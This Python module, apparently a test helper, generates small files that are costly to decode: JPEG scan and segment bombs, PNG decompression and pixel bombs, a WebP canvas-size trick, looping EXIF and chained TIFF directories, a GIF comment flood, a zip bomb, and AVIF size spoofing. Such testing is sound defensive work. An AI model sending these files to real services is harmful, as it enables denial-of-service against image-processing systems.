"""Files that are small to send and costly to open, and honest ones that only look like them, made on the spot."""

import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import ExifTags, Image

_PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_RESTARTS = 8


def saved(image: Image.Image, encoder: str, **options: Any) -> bytes:
    """Encode an image."""
    file = io.BytesIO()
    image.save(file, encoder, **options)
    return file.getvalue()


def large_jpeg(width: int, height: int, **options: Any) -> bytes:
    """Make an honest baseline JPEG of any size from one strip of 16 rows, repeated between restart markers."""
    strip = Image.linear_gradient("L").rotate(90).resize((width, 16))
    picture = Image.merge("RGB", (strip, strip.transpose(Image.Transpose.FLIP_LEFT_RIGHT), strip))
    data = saved(picture, "JPEG", restart_marker_rows=1, **options)
    scan = data.rindex(b"\xff\xda")
    start = scan + 2 + int.from_bytes(data[scan + 2 : scan + 4], "big")
    row = data[start:-2]
    rows = -(-height // 16)
    body = b"".join(row + bytes((0xFF, 0xD0 + number % _RESTARTS)) for number in range(rows - 1)) + row
    frame = data.index(b"\xff\xc0")
    head = data[: frame + 5] + height.to_bytes(2, "big") + data[frame + 7 : start]
    return head + body + data[-2:]


def scan_bomb(side: int = 2000, scans: int = 1000) -> bytes:
    """Repeat the last scan of a progressive JPEG: libjpeg takes seconds for some hundred kilobytes."""
    data = saved(Image.new("L", (side, side), 128), "JPEG", progressive=True)
    start = data.rindex(b"\xff\xda")
    return data[:-2] + data[start:-2] * scans + data[-2:]


def segment_bomb(segments: int = 1_000_000) -> bytes:
    """Fill a JPEG with empty comments."""
    data = saved(Image.new("L", (8, 8)), "JPEG")
    return data[:2] + b"\xff\xfe\0\2" * segments + data[2:]


def junk_bomb(size: int = 20_000_000) -> bytes:
    """Put bytes that mean nothing between a JPEG's segments: Pillow steps over them one by one, in Python."""
    data = saved(Image.new("L", (8, 8)), "JPEG")
    first = 4 + int.from_bytes(data[4:6], "big")
    return data[:first] + bytes(size) + data[first:]


def png_chunk(name: bytes, content: bytes) -> bytes:
    """Put a PNG chunk together."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, *chunks: bytes, kind: int = 0, packed: bytes | None = None) -> bytes:
    """Make an 8-bit PNG of zeros and of a kind of colours, with chunks before the pixels; `packed` replaces these."""
    samples = {0: 1, 2: 3, 3: 1, 6: 4}[kind]
    header = png_chunk(b"IHDR", struct.pack(">2I5B", width, height, 8, kind, 0, 0, 0))
    if packed is None:
        packed = _packed_zeros((width * samples + 1) * height)
    return b"".join((_PNG_SIGNATURE, header, *chunks, png_chunk(b"IDAT", packed), png_chunk(b"IEND", b"")))


def _packed_zeros(size: int) -> bytes:
    """Pack zeros a mebibyte at a time, without having them all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(size % 2**20)) + packer.flush()
    checksum = (size % 65_521) << 16 | 1  # Adler-32 of zeros
    return b"\x78\xda" + piece * (size // 2**20) + rest + checksum.to_bytes(4, "big")


def pixel_bomb() -> bytes:
    """Pack 177 megapixels into 688 KB, just below the size from which Pillow itself refuses."""
    return png(13_300, 13_300, kind=6)


def webp_canvas_bomb() -> bytes:
    """Declare WebP's largest canvas for a tiny image: its decoder makes two of them, 2 GB, when it is opened."""
    data = bytearray(saved(Image.new("RGBA", (16, 16), (1, 2, 3, 4)), "WEBP", exif=Image.Exif().tobytes()))
    assert data[12:16] == b"VP8X"
    data[24:30] = (16_382).to_bytes(3, "little") * 2
    return bytes(data)


def text_bomb(texts: int = 63) -> bytes:
    """Pack a mebibyte of text into each kilobyte."""
    return png(8, 8, png_chunk(b"zTXt", b"note\0\0" + zlib.compress(b" " * 1_000_000, 9)) * texts)


def chunk_bomb(chunks: int = 1_000_000) -> bytes:
    """Fill a PNG with empty texts."""
    return png(8, 8, png_chunk(b"tEXt", b"a\0") * chunks)


def empty_data_bomb(chunks: int = 1_000_000) -> bytes:
    """Cut a PNG's pixels into pieces of nothing."""
    return png(8, 8, png_chunk(b"IDAT", b"") * chunks)


def profile_bomb() -> bytes:
    """Pack 200 MiB into a colour profile."""
    return png(8, 8, png_chunk(b"iCCP", b"profile\0\0" + _packed_zeros(200 * 2**20)))


def overfull_png() -> bytes:
    """Pack 500 MiB where eight rows belong."""
    return png(8, 8, packed=_packed_zeros(500 * 2**20))


def _directory_bomb(entries: int = 5000) -> bytes:
    """Make an EXIF block whose entries all mean the same bytes, which a reader would copy for each."""
    size = 60_000 - 12 * entries if entries < 4000 else 2000
    fields = b"".join(struct.pack("<HHII", 0x8000 + number, 7, size, 8) for number in range(entries))
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", entries) + fields + b"\0\0\0\0"


def exif_bomb(encoder: str) -> bytes:
    """Give an image with such an EXIF block, in which the directory also leads back to itself."""
    loop = struct.pack("<HHII", ExifTags.IFD.Exif, 4, 1, 8)
    exif = _directory_bomb()
    exif = exif[:16] + loop + exif[16 + 12 :]
    return saved(Image.new("RGB", (64, 64)), encoder, exif=exif)


def animation(encoder: str, side: int, frames: int, **options: Any) -> bytes:
    """Make an animation of frames of one colour each."""
    first, *others = (Image.new("RGB", (side, side), (number % 256, number // 256, 99)) for number in range(frames))
    return saved(first, encoder, save_all=True, append_images=others, duration=20, **options)


def frame_claim_bomb() -> bytes:
    """Claim two thousand million frames in a PNG that has one."""
    return png(8, 8, png_chunk(b"acTL", struct.pack(">2I", 2**31 - 1, 0)))


def tiff_directory_bomb(directories: int = 20_000) -> bytes:
    """Chain empty directories: counting a TIFF's pages takes time by the square of their number."""
    one = struct.pack("<HHHII", 1, ExifTags.Base.ImageWidth, 3, 1, 1)
    chained = (one + struct.pack("<I", 8 + 18 * (number + 1)) for number in range(directories))
    return b"II*\0\x08\0\0\0" + b"".join(chained)


def zip_bomb() -> bytes:
    """Pack 20 MiB into a ZIP archive of 20 KB."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("photo.jpg", bytes(20 * 2**20))
    return file.getvalue()


def gif_frame(width: int, height: int, left: int = 0, top: int = 0, packed: bytes = b"\2\x44\1\0") -> bytes:
    """Put a GIF's frame together; `packed` is one pixel."""
    return b"\x2c" + struct.pack("<4HB", left, top, width, height, 0) + b"\2" + packed


def gif(width: int, height: int, *blocks: bytes) -> bytes:
    """Make a GIF of black and white."""
    screen = struct.pack("<2H3B", width, height, 0x80, 0, 0)
    return b"".join((b"GIF89a", screen, b"\0\0\0\xff\xff\xff", *blocks, b";"))


def gif_comment_bomb(comments: int = 300_000) -> bytes:
    """A GIF of one pixel behind comments of nothing."""
    return gif(1, 1, *[b"\x21\xfe\0"] * comments, gif_frame(1, 1))


def avif_of_size(width: int, height: int) -> bytes:
    """An AVIF of a few pixels whose container claims another size."""
    data = saved(Image.new("RGB", (8, 8)), "AVIF")
    claim = data.index(b"ispe") + 8  # behind its name, version and flags
    return data[:claim] + struct.pack(">2I", width, height) + data[claim + 8 :]
